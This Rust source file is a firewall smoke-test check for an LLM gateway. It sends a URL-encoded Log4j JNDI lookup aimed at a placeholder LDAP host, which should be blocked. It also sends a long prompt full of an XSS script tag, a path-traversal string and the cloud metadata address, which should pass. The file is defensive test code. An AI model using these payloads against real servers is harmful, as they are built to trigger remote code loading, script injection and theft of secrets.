//! Whether the firewall blocks a bad request, and no long prompt.

use std::fmt::Write;

use async_trait::async_trait;

use super::super::check::{Check, Needs, Stage, Verdict, one};
use super::super::expected::FirewallRules;
use super::super::explain;
use super::super::gateway::{CHAT, Gateway};
use super::super::outcome::Outcome;

/// A lookup of Log4j in a query string, which AWS's rules on known bad inputs block. The name is one that nobody can have.
const BAD: &str = "/?smoke=%24%7Bjndi%3Aldap%3A%2F%2Fgwinfra.invalid%2Fa%7D";
/// The same place without anything bad.
const HARMLESS: &str = "/?smoke=hello";
/// Characters of the long prompt: more than the 8 KiB at which AWS's common rules block a body.
const LONG: usize = 20_000;

pub(super) struct Waf;

#[async_trait]
impl Check for Waf {
    fn name(&self) -> &'static str {
        "waf"
    }

    fn proves(&self) -> &'static str {
        "the firewall blocks a bad request, and lets a long prompt with markup and paths pass"
    }

    fn stage(&self) -> Stage {
        Stage::Enter
    }

    fn needs(&self) -> Needs {
        Needs::Nothing
    }

    async fn run(&self, gateway: &Gateway) -> Verdict {
        let rules = gateway.expected.firewall;
        match rules {
            Some(FirewallRules::Off) => return one(Outcome::skip("the spec has no firewall (`ingress.waf`)")),
            Some(FirewallRules::Rate) => {
                return one(Outcome::skip("the spec's firewall has no managed rules, which block bad requests"));
            }
            _ => {}
        }
        let bad = gateway.answered("a bad request", gateway.client.get(BAD, None).await)?;
        if bad.status != 403 {
            return one(match rules {
                None => Outcome::skip("no firewall blocks a bad request, and no spec says whether one should"),
                Some(_) => Outcome::fail(format!("a bad request (a Log4j lookup) is not blocked: {}", bad.status))
                    .of(&bad)
                    .next("is the web ACL associated with the load balancer? gwinfra plan"),
            });
        }
        let harmless = gateway.answered("a harmless request", gateway.client.get(HARMLESS, None).await)?;
        if harmless.status == 403 {
            let next = "what is in front lets nobody in: is it the web ACL, with a rule that it should not have?";
            return one(match rules {
                None => Outcome::skip("a harmless request is refused as a bad one is (403): no firewall is seen"),
                Some(_) => Outcome::fail("a harmless request is blocked as a bad one is: 403").of(&harmless).next(next),
            });
        }
        if rules == Some(FirewallRules::Strict) {
            return one(Outcome::pass("a bad request is blocked; long prompts are too, as the spec says").of(&bad));
        }
        // Without a key: the firewall comes before LiteLLM, and no token is spent.
        let body = gateway.chat_of("any").as_object().map(|body| {
            let mut body = body.clone();
            body.insert("messages".into(), serde_json::json!([{"role": "user", "content": prompt()}]));
            serde_json::Value::Object(body)
        });
        let long = gateway.client.post(CHAT, None, &body.unwrap_or_default()).await;
        let long = gateway.answered("a long prompt", long)?;
        if long.status == 401 {
            return one(Outcome::pass("a bad request is blocked, a long prompt passes").of(&bad));
        }
        if long.status == 403 && long.is_from_the_front() {
            return one(Outcome::fail(format!("a prompt of {LONG} characters is blocked")).of(&long).next(
                "the web ACL's log names the rule; `ingress.waf.managed_rules: llm` only counts those on bodies",
            ));
        }
        one(explain::wrong(gateway, "a long prompt without a key", &long))
    }
}

/// An ordinary long prompt: a page with markup, paths and addresses in it.
fn prompt() -> String {
    let mut text = String::with_capacity(LONG + 200);
    while text.len() < LONG {
        // Writing to a String cannot fail.
        let _ = writeln!(
            text,
            "Explain <script src=\"https://example.com/a.js\">alert(1)</script> in ../../etc/nginx/nginx.conf, \
             and why http://169.254.169.254/latest/meta-data/ answers."
        );
    }
    text
}
